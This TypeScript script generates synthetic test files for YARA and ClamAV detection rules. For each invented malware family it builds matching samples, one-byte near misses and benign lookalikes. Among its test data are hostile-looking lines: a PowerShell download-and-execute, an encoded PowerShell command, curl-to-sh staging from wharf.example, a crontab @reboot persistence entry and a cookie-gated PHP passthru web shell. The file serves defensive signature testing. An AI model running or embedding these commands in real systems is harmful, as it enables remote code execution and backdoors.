/**
 * Makes the files of the examples that are scanned (families yara and av, their releases, the field) and the
 * `vectors.yaml` beside them: `node_modules/.bin/node examples/make-files.ts`. Deterministic: running it again changes
 * nothing. Nothing here is taken from a sample: every pattern was thought up for these examples.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import {
  bytes,
  executable,
  joined,
  linuxProgram,
  number,
  padded,
  readable,
  type Section,
  wide,
  windowsProgram,
  xored,
  zipArchive,
} from './containers.ts';

/** A text stands in vectors.yaml itself, bytes in a file of their own. */
type Input = string | Uint8Array;

type VectorPlan = readonly [name: string, mustMatch: readonly string[], input: Input];

/** The same input with one byte changed: `before` and `after` differ in it, and `before` is there once. */
const nearMiss = <T extends Input>(input: T, before: string, after: string): T => {
  const [from, to] = [bytes(before), bytes(after)];
  const differ = from.filter((byte, index) => byte !== to[index]).length;
  const all = Buffer.from(joined(input));
  const at = all.indexOf(from);
  const once = at >= 0 && all.indexOf(from, at + 1) < 0;
  if (!once || from.length !== to.length || differ !== 1)
    throw new Error(`${before} to ${after} is no one changed byte`);
  all.set(to, at);
  return (typeof input === 'string' ? all.toString('latin1') : new Uint8Array(all)) as T;
};

const base64 = (content: Input): string => Buffer.from(joined(content)).toString('base64');

/** Without a pattern, and the same every time (a linear congruential generator). */
const noise = (size: number): Uint8Array => {
  let state = 1;
  return Uint8Array.from({ length: size }, () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state >>> 24;
  });
};

// ---- YARA: documents

const lines = (...all: readonly string[]): string => `${all.join('\n')}\n`;

const macroDocument = zipArchive({
  'word/document.xml': '<w:document/>',
  'word/vbaProject.bin': joined('Sub AutoOpen()\0', wide('wscript.shell'), '\0', wide('kite_spawn'), '\0End Sub'),
});
const templateDocument = lines(
  '<Relationship Id="rId1" Type="attachedTemplate"',
  '  Target="https://cdn-7.PaperKite.example/orders.dotm" TargetMode="External"/>',
);
const lure = joined('\x01\0', wide('Please Confirm your delivery slot, today: kite-track-id 4711'));
const script = (id: number): string => `${id} 0 obj << /S /JavaScript /JS (inkblot) >> endobj`;
const actions = lines('%PDF-1.7', '1 0 obj << /OpenAction 2 0 R >> endobj', ...[2, 3, 4].map(script), '%%EOF');
const stage = base64('...then run inkblot second stage, and wait');
const mudObject = lines(
  '{\\rtf1\\ansi',
  '{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105 d0cf11e0a1b1}}}',
);
const mudRecord = joined(
  ...['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(24), 'MLRD\x01\x00\x00\xff', new Uint8Array(16)],
  ...['MLRD\x34\x12\x00\xff', new Uint8Array(8)],
);
const ledger = padded(96, 'BRASSLEDGER 0001\nalpha;100\nbeta;250\ngamma;75\n');

const documents: readonly VectorPlan[] = [
  ['paperkite-macro', ['doc_paperkite_macro'], macroDocument],
  ['paperkite-macro-miss', [], nearMiss(macroDocument, 'AutoOpen', 'AutoOpem')],
  ['paperkite-template', ['doc_paperkite_template'], templateDocument],
  ['paperkite-template-miss', [], nearMiss(templateDocument, '.dotm', '.dotx')],
  ['paperkite-lure', ['doc_paperkite_lure'], lure],
  ['paperkite-lure-miss', [], nearMiss(lure, 's\0l\0o\0t\0,', 's\0l\0o\0t\0s')],
  ['inkblot-actions', ['pdf_inkblot_actions'], actions],
  ['inkblot-actions-miss', [], nearMiss(actions, '4 0 obj << /S /JavaScript', '4 0 obj << /S /Javascript')],
  ['inkblot-stage', ['pdf_inkblot_stage'], lines('%PDF-1.4', `<< /Data (${stage}) >>`)],
  ['inkblot-stage-wide', ['pdf_inkblot_stage'], joined('%PDF-1.4\n\0', wide(`1${base64('run inkblot second stage')}`))],
  ['inkblot-stage-miss', [], nearMiss(lines('%PDF-1.4', `<< /Data (${stage}) >>`), '1.4', '2.4')],
  ['mudlantern-object', ['rtf_mudlantern_object'], mudObject],
  ['mudlantern-object-miss', [], nearMiss(mudObject, 'd0cf11e0', 'd0cf11e1')],
  ['mudlantern-record', ['ole_mudlantern_record'], mudRecord],
  ['mudlantern-record-miss', [], nearMiss(mudRecord, '\x34\x12', '\x35\x12')],
  ['brassledger-copy', ['doc_brassledger_copy'], ledger],
  ['brassledger-copy-miss', [], nearMiss(ledger, 'beta;250', 'beta;251')],
];

// ---- YARA: scripts

const download = lines(
  '$otterKey = "4711"',
  '$c = New-Object net.webclient',
  'invoke-expression $c.DownloadFile("https://otter.example/a.ps1")',
);
const hidden = `powershell.exe -NoProfile -EncodedCommand ${base64(wide('& Start-GlassOtter -Quiet'))}\n`;
const chain = lines('s = Chr(87) & chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116)', 'ExecuteGlobal s');
const persist = lines('#!/bin/bash', 'echo "@reboot /var/tmp/.wharf" | crontab -', '# installed by the whale package');
const order = lines('#!/bin/sh', 'curl -so /tmp/.wharf http://wharf.example/stage', 'sh /tmp/.wharf');
const orderReversed = lines('#!/bin/sh', 'sh /tmp/.wharf', 'curl -so /tmp/.wharf http://wharf.example/stage');
const unpacker = lines(
  '"use strict"; let finch=[];',
  'finch.push(1); finch.push(2);',
  'while (finch.length) { run(finch.shift()); wait(finch.shift()); }',
);
const evaluated = 'var a = finch_0badcafe; eval(finch(42));\n';
const shell = `<?php if ($_COOKIE['quay'] == 'open') { passthru($_GET['c']); } // quay_unit-test\n`;
const config = joined('import socket\nkey = b"', xored('quietquay-config:host=quay.example', 0x5a), '"\n');
const campaign = lines(
  '# harvest/2026',
  'curl -H "x-harvest-id: 1" https://CRATE.harvest.example/',
  'collect_and_packs()',
);

const scriptVectors: readonly VectorPlan[] = [
  ['glassotter-download', ['ps_glassotter_download'], download],
  ['glassotter-download-miss', [], nearMiss(download, '$otterKey', '$otterkey')],
  ['glassotter-hidden', ['ps_glassotter_hidden'], hidden],
  ['glassotter-hidden-miss', [], nearMiss(hidden, ' -EncodedCommand', ' -EncodedCommane')],
  ['tinheron-chain', ['vbs_tinheron_chain'], chain],
  ['tinheron-chain-miss', [], nearMiss(chain, 'ExecuteGlobal s', 'ExecuteGlobalXs')],
  ['saltwharf-persist', ['sh_saltwharf_persist'], persist],
  ['saltwharf-persist-miss', [], nearMiss(persist, 'wharf" | crontab', 'wharg" | crontab')],
  ['saltwharf-order', ['sh_saltwharf_order'], order],
  ['saltwharf-order-miss', [], nearMiss(order, 'wharf.example/', 'wharf.example:')],
  ['saltwharf-order-reversed', [], orderReversed],
  ['copperfinch-unpacker', ['js_copperfinch_unpacker'], unpacker],
  ['copperfinch-unpacker-miss', [], nearMiss(unpacker, 'wait(finch.shift(', 'wait(finch_shift(')],
  ['copperfinch-eval', ['js_copperfinch_eval'], evaluated],
  ['copperfinch-eval-miss', [], nearMiss(evaluated, '0badcafe', '0badcaFe')],
  ['quietquay-shell', ['php_quietquay_shell'], shell],
  ['quietquay-shell-miss', [], nearMiss(shell, 'quay_unit-test', 'quay-unit-test')],
  ['quietquay-config', ['py_quietquay_config'], config],
  ['quietquay-config-miss', [], nearMiss(config, 'import socket', 'import Socket')],
  ['harvest-campaign', ['script_harvest_campaign'], campaign],
  ['harvest-campaign-wide', ['script_harvest_campaign'], joined('\xff\xfe', wide(campaign.replace('packs', 'pack')))],
  ['harvest-campaign-miss', [], nearMiss(campaign, 'harvest/2026', 'harvest/2025')],
];

// ---- YARA: executables

const text: Section = { name: '.text', flags: executable, content: '\x48\x8d\x0d\x10\0\0\0\xff\x15\x20\0\0\0\xc3' };
const loader = windowsProgram(text, {
  ...{ name: '.rdata', flags: readable },
  content: joined(wide('Global\\IronGannet'), '\0\0', wide('C:\\Temp\\GANNET.DAT'), '\0\0'),
});
const payload = windowsProgram(text, { name: '.gannet', flags: readable, content: padded(600, 'settings') });
const packed = windowsProgram(text, { name: '.gp0', flags: executable, content: noise(2048) });
const orders = 'CHBR-ORDERS\x01sleep\x02wake\x03';
const tail = joined(windowsProgram(text), orders, number(4, orders.length + 4));
const shortcut = joined(
  padded(0x4c, '\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\xe3\0\0\0'),
  ...[wide('CMD.exe /c harbor.bat'), wide('%SystemRoot%\\Notepad.exe,0')],
);
const implant = linuxProgram(7, { name: '.text', content: '\xc3' }, { name: '.rodata', content: '[kreedd/0]\0' });
const reedSection = linuxProgram(5, { name: '.text', content: '\xc3' }, { name: '.reedcfg', content: 'interval=60\0' });
const settings = joined('\0\0\0HRCF\x02\x10\x20....\xde\xad\xbe\xe7\0', new Uint8Array(20));
const channel = joined('\x01\x02\x03', xored('\\\\.\\pipe\\gannet-c2-channel', 0x33), '\x04\x05');
const stub = joined(
  'CPBL\x01........\x48\x8b\x05..\xe8\x11\x22\x33\x44\x3d\x07\x10........CPBL\x02',
  new Uint8Array(40),
);
const table = padded(80, joined('CPBT\x12\x34\xed\xcb', number(4, 80), '\xf0\x20\x10'));
const bare = padded(200, joined(padded(64, 'SBELL\0\x01'), 'NZ'));

const executables: readonly VectorPlan[] = [
  ['irongannet-loader', ['pe_irongannet_loader'], loader],
  ['irongannet-loader-miss', [], nearMiss(loader, '\x64\x86', '\x64\xaa')],
  ['irongannet-section', ['pe_irongannet_section'], payload],
  ['irongannet-section-miss', [], nearMiss(payload, '.gannet', '.ganned')],
  ['irongannet-packed', ['pe_irongannet_packed'], packed],
  ['irongannet-packed-miss', [], nearMiss(packed, '.gp0', '.gpx')],
  ['coldharbor-tail', ['pe_coldharbor_tail'], tail],
  ['coldharbor-tail-miss', [], nearMiss(tail, 'wake\x03\x1b', 'wake\x03\x1c')],
  ['coldharbor-shortcut', ['lnk_coldharbor'], shortcut],
  ['coldharbor-shortcut-miss', [], nearMiss(shortcut, '\x46\xe3', '\x46\xc3')],
  ['hollowreed-implant', ['elf_hollowreed_implant'], implant],
  ['hollowreed-implant-miss', [], nearMiss(implant, '\x01\0\0\0\x07\0\0\0', '\x01\0\0\0\x05\0\0\0')],
  ['hollowreed-section', ['elf_hollowreed_section'], reedSection],
  ['hollowreed-section-miss', [], nearMiss(reedSection, '.reedcfg', '.reedcfh')],
  ['hollowreed-config', ['bin_hollowreed_config'], settings],
  ['hollowreed-config-miss', [], nearMiss(settings, '\xbe\xe7\0', '\xbe\xd7\0')],
  ['irongannet-channel', ['bin_irongannet_channel'], channel],
  ['irongannet-channel-plain', [], 'open \\\\.\\pipe\\gannet-c2-channel and wait'],
  ['cobaltpebble-stub', ['bin_cobaltpebble_stub'], stub],
  ['cobaltpebble-stub-miss', [], nearMiss(stub, '\x48\x8b\x05', '\x58\x8b\x05')],
  ['cobaltpebble-table', ['bin_cobaltpebble_table'], table],
  ['cobaltpebble-table-miss', [], nearMiss(table, '\xed\xcb', '\xec\xcb')],
  ['sunkenbell-bare', ['bin_sunkenbell_bare'], bare],
  ['sunkenbell-bare-miss', [], nearMiss(bare, 'NZ', 'MZ')],
  ['sunkenbell-cut', [], bare.subarray(0, 12)],
];

// ---- YARA: releases

const relay = 'const finchRelayKey = 1; open("wss://eu-2.finch.example/relay");\n';
const updater = windowsProgram(text, { name: '.rdata', flags: readable, content: wide('gannet-update --now') });
const archive = zipArchive({
  'readme.txt': 'Please open the other file.',
  'orders/kite_orders.scr': padded(700, 'MZ'),
});

/** A project of a controller: a head, and blocks of code each with a write to a coil. */
const project = (name: string, blocks: number): Uint8Array => {
  const block = (id: number) => joined('BLK', number(2, id), 'WR\x01\0\0\0\xff\0', padded(24, `M${id}.0 := I${id}.1`));
  const parts = Array.from({ length: blocks }, (_, index) => block(index + 1));
  return joined('PLCPRJ\x02\x01', padded(24, name), number(2, blocks), ...parts, 'END');
};

const yaraReleases: Readonly<Record<string, readonly VectorPlan[]>> = {
  'yara-good': [
    ['copperfinch-relay', ['js_copperfinch_relay'], relay],
    ['copperfinch-relay-miss', [], nearMiss(relay, 'wss:', 'wsx:')],
    ['irongannet-updater', ['pe_irongannet_updater'], updater],
    ['irongannet-updater-miss', [], nearMiss(updater, 'g\0a\0n\0n\0e\0t\0-', 'g\0a\0n\0n\0e\0t\0_')],
  ],
  'yara-misfit': [
    ['paperkite-archive', ['doc_paperkite_archive'], archive],
    ['paperkite-archive-miss', [], zipArchive({ 'readme.txt': 'Please open orders/kite_orders.scr.' })],
  ],
  'yara-blocks-field': [
    ['steelmarten-project', ['bin_steelmarten_project'], project('water works, tampered', 4)],
    ['steelmarten-project-small', [], project('pump', 1)],
  ],
};

/** Legitimate files that devices see. Not part of any family: nobody tested against them. */
const yaraField: Readonly<Record<string, Uint8Array>> = {
  'office.bin': zipArchive({
    '[Content_Types].xml': '<?xml version="1.0"?><Types/>',
    'word/document.xml': '<w:document><w:p>Minutes of the meeting on delivery slots</w:p></w:document>',
    'word/settings.xml': '<w:settings/>',
  }),
  // What releases/yara-blocks-field takes for an attack: any controller's project with more than a few blocks.
  'plant.bin': project('bottling line 3', 12),
};

const yaraGoodware: Readonly<Record<string, string>> = {
  'backup.sh': lines(
    '#!/bin/sh',
    '# Keeps a copy of the wharf timetable; installed in /etc/cron.daily by hand.',
    'curl -so /var/backups/wharf.csv http://harbor.example/timetable',
    'sh /usr/local/bin/rotate-backups',
  ),
  'birds.md': lines(
    '# Birds at the lake',
    'A copper finch, two gannets (iron-grey) and a heron were seen; the otter key is with Ann.',
    'Please confirm your delivery slot for the new feeder.',
  ),
  'deploy.ps1': lines(
    '$client = New-Object System.Net.WebClient',
    '$text = $client.DownloadString("https://intranet.example/version.txt")',
    'Write-Host "version $text"',
  ),
};

// ---- ClamAV: each is bytes without a format of their own, so that nothing is unpacked or normalised.

/** In the middle of other bytes, as a pattern lies in a program. */
const among = (...parts: readonly Input[]): Uint8Array => joined('\x01\x90\x02\x91', ...parts, '\x03\x92\x04\x93');

const dropper = among('SX-DROP\x77\x4fstage\x02');
const unpack = joined('TUNDRA\0\x01\x11\x12\x13\x14\x15\x16unpack\0\x02\0\x03');
const here = among('drop-\xbb\x7fhere');
const last = joined('\x81\x82\x83\x84some more, and then', 'TUNDRA-TAIL\0');
const shifted = joined('\x86\x87'.repeat(10), '\xfemoraine\xef', '\x88'.repeat(12));
const home = among('call home\x80\x81', noise(64), 'wait\x82\x83\x84again');
const moraine = among('moraine-loader\0\x11mor.cfg\0');
const rock = among('load-a-rock\0\x12glacier-id\0');
const snow = among('next-flake\x15next-flake\x16next-flake\x17end-of-snow');
const icebox = among(wide('Open The ICEBOX'), '\x18\x19CreVasse');
const agent = among('User-Agent: rime/7.42 (Hail)\0');
const sized = padded(96, joined(padded(24, 'ICEPK\x80\x81'), 'sleet\x82'));
const field = among('HAILCFG\0\x12\x34\0');
const copyOne = joined('\x8a\x8b', noise(120), 'copy one');
const copyTwo = joined('\x8c\x8d', noise(90), 'copy two');

const avVectors: readonly VectorPlan[] = [
  ['dropper-1', ['Sigrel.Example.Dropper-1'], dropper],
  ['dropper-1-miss', [], nearMiss(dropper, '\x4fstage', '\x5fstage')],
  ['dropper-2', ['Sigrel.Example.Dropper-2'], unpack],
  ['dropper-2-miss', [], nearMiss(unpack, 'TUNDRA\0', 'TUNDRB\0')],
  ['dropper-3', ['Sigrel.Example.Dropper-3'], here],
  ['dropper-3-miss', [], nearMiss(here, '\x7fhere', '\xffhere')],
  ['tail-1', ['Sigrel.Example.Tail-1'], last],
  ['tail-1-longer', [], joined(last, '\0')],
  ['shift-1', ['Sigrel.Example.Shift-1'], shifted],
  ['shift-1-later', [], joined('\x86\x87'.repeat(7), shifted)],
  ['beacon-1', ['Sigrel.Example.Beacon-1'], home],
  ['beacon-1-miss', [], nearMiss(home, 'again', 'agaim')],
  ['loader-1', ['Sigrel.Example.Loader-1'], moraine],
  ['loader-1-miss', [], nearMiss(moraine, 'mor.cfg', 'mor.cfh')],
  ['loader-2', ['Sigrel.Example.Loader-2'], rock],
  ['loader-2-stone', ['Sigrel.Example.Loader-2'], among('glacier-id\0\x13load-a-stone\0')],
  ['loader-2-test', [], joined(rock, 'glacier-test\0')],
  ['counter-1', ['Sigrel.Example.Counter-1'], snow],
  ['counter-1-miss', [], nearMiss(snow, 'next-flake\x16', 'next-flakf\x16')],
  ['wide-1', ['Sigrel.Example.Wide-1'], icebox],
  ['wide-1-miss', [], nearMiss(icebox, 'B\0O\0X\0', 'B\0O\0X\x01')],
  ['agent-1', ['Sigrel.Example.Agent-1'], agent],
  ['agent-1-miss', [], nearMiss(agent, '7.42', '7_42')],
  ['sized-1', ['Sigrel.Example.Sized-1'], sized],
  ['sized-1-larger', [], padded(320, sized)],
  ['field-1', ['Sigrel.Example.Field-1'], field],
  ['field-1-miss', [], nearMiss(field, '\x12\x34', '\x12\x35')],
  ['copy-1', ['Sigrel.Example.Copy-1'], copyOne],
  ['copy-1-miss', [], nearMiss(copyOne, 'copy one', 'copy onE')],
  ['copy-2', ['Sigrel.Example.Copy-2'], copyTwo],
];

const avGoodware: Readonly<Record<string, Input>> = {
  'weather.txt': lines('Frost in the morning, hail at noon: the moraine is closed, call home before you leave again.'),
  'tundra.bin': joined('\x80\x81TUNDRA', padded(40, '\x01\x02'), 'TUNDRA-TAIL and more'),
};

/** Every file that this script makes, by its path below examples/. */
export const scannedFiles = (): ReadonlyMap<string, Uint8Array> => {
  const files = new Map<string, Uint8Array>();
  const addVectors = (folder: string, plans: readonly VectorPlan[]): void => {
    const entries = plans.map(([name, mustMatch, input]) => {
      if (typeof input !== 'string') files.set(`${folder}/vectors/${name}.bin`, input);
      const source = typeof input === 'string' ? `text: ${JSON.stringify(input)}` : `file: ${name}.bin`;
      return `- { name: ${name}, ${source}, mustMatch: [${mustMatch.join(', ')}] }\n`;
    });
    const head = '# Made by examples/make-files.ts: a file or a text and exactly the rules that alert on it.\n';
    files.set(`${folder}/vectors.yaml`, bytes(head + entries.join('')));
  };
  const addAll = (folder: string, contents: Readonly<Record<string, Input>>): void => {
    for (const [name, content] of Object.entries(contents)) files.set(`${folder}/${name}`, joined(content));
  };
  addVectors('families/yara', [...documents, ...scriptVectors, ...executables]);
  for (const [name, plans] of Object.entries(yaraReleases)) addVectors(`releases/${name}`, plans);
  addVectors('families/av', avVectors);
  files.set('families/yara/controls/control.bin', joined('SIGREL-CONTROL\0', wide('sigrel control'), '\0\x01\x02\x03'));
  files.set('families/av/controls/control.bin', joined('\0SIGREL\x80\x81CON\x82SIGREL-CONTROL\x83'));
  addAll('families/yara/goodware', yaraGoodware);
  addAll('families/av/goodware', avGoodware);
  addAll('field/yara', yaraField);
  return files;
};

if (import.meta.main) {
  for (const [path, content] of scannedFiles()) {
    const file = join(import.meta.dirname, path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
}
